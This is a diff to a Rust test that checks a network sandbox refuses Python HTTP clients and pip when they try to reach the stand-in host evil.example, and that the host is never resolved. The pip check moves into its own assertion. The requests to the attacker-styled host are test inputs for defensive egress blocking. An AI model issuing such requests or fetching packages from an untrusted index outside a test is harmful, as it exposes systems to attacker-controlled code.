@@ -173,13 +173,16 @@ fn clients_that_people_use_get_through_and_are_refused_with_a_reason() {
         ("urllib", python("import urllib.request as r; r.urlopen('https://evil.example/')")),
         ("requests", python("import requests; requests.get('https://evil.example/')")),
         ("httpx", python("import httpx; httpx.get('https://evil.example/')")),
-        ("pip", "PYTHONPATH= v/bin/pip download --retries 0 --index-url https://evil.example/simple/ greeting".to_owned()),
     ];
     for (client, script) in refused {
         let (code, text) = run(&script);
         assert_ne!(code, Some(0), "{client}: {text}");
         assert!(text.contains("403"), "{client}: {text}");
     }
+    // pip says only that it found nothing.
+    let index = "--retries 0 --index-url https://evil.example/simple/";
+    let (code, text) = run(&format!("PYTHONPATH= v/bin/pip download {index} greeting"));
+    assert_ne!(code, Some(0), "{text}");
     assert!(!names.asked().contains(&"evil.example".to_owned()));
     // A static program that looks for no variable.
     let mut plan = Plan::default();
